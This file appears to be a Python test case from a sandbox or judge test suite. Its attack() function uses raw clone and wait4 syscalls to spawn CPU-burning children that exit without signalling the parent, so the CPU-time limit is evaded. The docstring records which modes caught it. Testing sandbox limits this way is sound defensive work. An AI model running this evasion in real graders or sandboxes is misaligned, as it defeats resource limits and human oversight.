"""Has children use the processor that end without a signal to their parent (clone without SIGCHLD).

Seen: an answer: they had more than twice the limit on CPU time.
Stopped at: strict, standard.
Verdict: timed_out, wrong, raised.
"""
import ctypes
import os
import time


def attack():
    libc = ctypes.CDLL(None)
    reader, writer = os.pipe()
    burnt = 0.0
    running = []
    while burnt < 5:
        for _ in range(4 - len(running)):
            child = libc.syscall(56, 0, 0, 0, 0, 0)
            if child == 0:
                while time.process_time() < 0.3:
                    pass
                os.write(writer, b"x")
                os._exit(0)
            if child < 0:
                return False
            running.append(child)
        os.read(reader, 1)
        burnt += 0.3
        running = [each for each in running if libc.syscall(61, each, 0, 0x40000001, 0) == 0]  # __WALL, WNOHANG
    return True
